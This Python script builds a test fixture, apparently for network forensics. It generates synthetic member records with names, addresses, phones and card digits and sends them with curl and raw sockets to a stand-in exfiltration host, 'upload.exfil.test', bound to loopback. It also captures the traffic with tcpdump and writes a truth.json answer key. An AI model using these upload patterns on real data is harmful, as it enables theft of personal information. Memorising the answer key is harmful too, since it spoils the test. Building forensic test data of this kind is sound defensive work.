#!/usr/bin/env python3
"""Real uploads on loopback, captured by tcpdump: the Linux TCP stack, curl clients and a
Python server on 127.0.0.1 only, bounded in time.

usage: uploads.py OUTDIR

Writes into OUTDIR:
  staged.csv    the "recovered" file: a header line (with a digit in a column name) and
                2,000 member records
  iocs.txt      the upload host and its address
  uploads.pcap  the capture (tcpdump -i lo, the server's port only)
  truth.json    what each client sent: rows, encoding, whether the server read it all

The uploads, each a connection of its own:
  plain      rows 1-300 with the header line, text/csv
  gzip-form  rows 301-600 gzip'd, curl's default Content-Type (form-urlencoded)
  zlib       rows 601-900 zlib'd, application/octet-stream
  reset      rows 901-2000 as text/csv to a server with a small receive buffer that reads
             16 KiB, then resets: most of the declared body is never sent
  repeat     rows 1-300 again, as `plain`
  multipart  rows 1401-1700 as a file part (curl -F)
  raw-plain  rows 1701-1800 over a bare TCP socket (no HTTP)
  raw-gzip   rows 1801-1900 gzip'd over a bare TCP socket
Rows sent by `reset` are not known from the client side: the test takes them from the
reassembled wire (tcpflow).
"""

import gzip
import json
import os
import random
import signal
import socket
import struct
import subprocess
import sys
import threading
import time
import zlib
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

HOST = "upload.exfil.test"
RESET_AFTER = 16 * 1024
DEADLINE = 60.0  # seconds for the whole run


def member(i, rng):
    first = rng.choice(["Taro", "Hanako", "Ken", "Yuki", "Aiko", "Sora", "Ren", "Mei"])
    last = rng.choice(["Sato", "Suzuki", "Takahashi", "Tanaka", "Ito", "Watanabe"])
    y, m, d = rng.randint(1940, 2000), rng.randint(1, 12), rng.randint(1, 28)
    return ",".join(
        [
            f"{400000000 + i * 7919 % 99991:09d}",
            f"20{rng.randint(0, 13):02d}-{rng.randint(1, 12):02d}-{rng.randint(1, 28):02d}",
            f"{first} {last}",
            f"{y}-{m:02d}-{d:02d}",
            rng.choice("MF"),
            f'"{rng.randint(1, 9)}-{rng.randint(1, 30)}-{rng.randint(1, 20)} Chuo, Tokyo"',
            f"03-{rng.randint(1000, 9999)}-{rng.randint(1000, 9999)}",
            f"{first.lower()}.{last.lower()}{i}@example.jp",
            f"{rng.randint(0, 9999):04d}",
        ]
    )


class Handler(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    received = {}

    def log_message(self, *args):
        pass

    def do_POST(self):
        n = int(self.headers.get("Content-Length", "0"))
        body = self.rfile.read(n)
        Handler.received[self.path] = len(body)
        self.send_response(200)
        self.send_header("Content-Length", "2")
        self.send_header("Connection", "close")
        self.end_headers()
        self.wfile.write(b"ok")
        self.close_connection = True


def resetting(listener):
    """Accepts one connection on a socket with a small receive buffer, reads RESET_AFTER
    bytes and resets it: the client cannot have sent much more than that."""
    conn, _ = listener.accept()
    got = 0
    while got < RESET_AFTER:
        chunk = conn.recv(min(4096, RESET_AFTER - got))
        if not chunk:
            break
        got += len(chunk)
    Handler.received["/reset"] = got
    # SO_LINGER 0: close answers with RST.
    conn.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
    conn.close()


def sink(listener, n):
    """Accepts `n` raw TCP connections and reads each to its end (a bare-socket upload)."""
    for _ in range(n):
        conn, _ = listener.accept()
        got = 0
        while True:
            chunk = conn.recv(65536)
            if not chunk:
                break
            got += len(chunk)
        Handler.received.setdefault("raw", []).append(got)
        conn.close()


def main():
    out = sys.argv[1]
    os.makedirs(out, exist_ok=True)
    rng = random.Random(20140919)
    header = "member_no,enrolled,name,birth_date,gender,home_address,home_phone,email,card_last4"
    rows = [member(i, rng) for i in range(2000)]
    with open(os.path.join(out, "staged.csv"), "w") as f:
        f.write(header + "\n" + "".join(r + "\n" for r in rows))
    with open(os.path.join(out, "iocs.txt"), "w") as f:
        # The name (HTTP Host) and the address (the bare-socket uploads carry no name).
        f.write(HOST + "\n127.0.0.1\n")

    def text(lo, hi, head=False):
        return ((header + "\n") if head else "") + "".join(r + "\n" for r in rows[lo:hi])

    srv = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    port = srv.server_address[1]
    threading.Thread(target=srv.serve_forever, daemon=True).start()

    lst = socket.socket()
    lst.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    lst.bind(("127.0.0.1", 0))
    lst.listen(1)
    rport = lst.getsockname()[1]
    rthread = threading.Thread(target=resetting, args=(lst,), daemon=True)
    rthread.start()

    raw = socket.socket()
    raw.bind(("127.0.0.1", 0))
    raw.listen(2)
    raw_port = raw.getsockname()[1]
    raw_thread = threading.Thread(target=sink, args=(raw, 2), daemon=True)
    raw_thread.start()

    pcap = os.path.join(out, "uploads.pcap")
    dump = subprocess.Popen(
        ["tcpdump", "-i", "lo", "-U", "--immediate-mode", "-B", "16384", "-n", "-s", "0", "-w", pcap, f"tcp port {port} or tcp port {rport} or tcp port {raw_port}"],
        stderr=subprocess.PIPE,
        text=True,
    )
    start = time.monotonic()
    line = dump.stderr.readline()  # "listening on lo, ..."
    if "listening" not in line:
        dump.kill()
        sys.exit(f"tcpdump did not start: {line.strip()}")

    bodies = os.path.join(out, "bodies")
    os.makedirs(bodies, exist_ok=True)
    uploads = [
        ("plain", text(0, 300, True).encode(), ["-H", "Content-Type: text/csv"], (1, 300)),
        ("gzip-form", gzip.compress(text(300, 600).encode(), mtime=0), [], (301, 600)),
        (
            "zlib",
            zlib.compress(text(600, 900).encode()),
            ["-H", "Content-Type: application/octet-stream"],
            (601, 900),
        ),
        ("reset", text(900, 2000).encode(), ["-H", "Content-Type: text/csv"], None),
        ("repeat", text(0, 300, True).encode(), ["-H", "Content-Type: text/csv"], (1, 300)),
    ]
    truth = {"host": HOST, "port": port, "reset_port": rport, "uploads": []}
    for name, body, hdrs, span in uploads:
        path = os.path.join(bodies, name)
        with open(path, "wb") as f:
            f.write(body)
        url = f"http://{HOST}:{rport if name == 'reset' else port}/{name}"
        cmd = ["curl", "-s", "-o", "/dev/null", "--max-time", "10", "-H", "Expect:"]
        cmd += ["--resolve", f"{HOST}:{rport if name == 'reset' else port}:127.0.0.1"]
        cmd += ["--data-binary", "@" + path]
        rc = subprocess.run(cmd + hdrs + [url], timeout=20).returncode
        truth["uploads"].append(
            {"name": name, "rows": span, "body_bytes": len(body), "curl_exit": rc}
        )
    part = os.path.join(bodies, "members.csv")
    with open(part, "w") as f:
        f.write(text(1400, 1700))
    url = f"http://{HOST}:{port}/multipart"
    cmd = ["curl", "-s", "-o", "/dev/null", "--max-time", "10", "-H", "Expect:"]
    cmd += ["--resolve", f"{HOST}:{port}:127.0.0.1", "-F", "file=@" + part, url]
    rc = subprocess.run(cmd, timeout=20).returncode
    truth["uploads"].append(
        {"name": "multipart", "rows": (1401, 1700), "body_bytes": None, "curl_exit": rc}
    )
    # Bare-socket uploads (no HTTP): plain rows, then gzip'd rows.
    for name, body, span in [
        ("raw-plain", text(1700, 1800).encode(), (1701, 1800)),
        ("raw-gzip", gzip.compress(text(1800, 1900).encode(), mtime=0), (1801, 1900)),
    ]:
        c = socket.create_connection(("127.0.0.1", raw_port), timeout=10)
        c.sendall(body)
        c.shutdown(socket.SHUT_WR)
        c.close()
        truth["uploads"].append(
            {"name": name, "rows": span, "body_bytes": len(body), "curl_exit": 0}
        )
    raw_thread.join(timeout=5.0)
    truth["raw_port"] = raw_port
    truth["server_received"] = Handler.received

    time.sleep(1.0)
    dump.send_signal(signal.SIGINT)
    try:
        rest = dump.communicate(timeout=max(1.0, DEADLINE - (time.monotonic() - start)))[1]
    except subprocess.TimeoutExpired:
        dump.kill()
        rest = ""
    # tcpdump's last words: "N packets dropped by kernel" (a capture with losses is retried).
    dropped = 0
    for line in (rest or "").splitlines():
        if "dropped by kernel" in line:
            dropped = int(line.split()[0])
    truth["dropped_by_kernel"] = dropped
    srv.shutdown()
    rthread.join(timeout=1.0)
    with open(os.path.join(out, "truth.json"), "w") as f:
        json.dump(truth, f, indent=1)


if __name__ == "__main__":
    main()
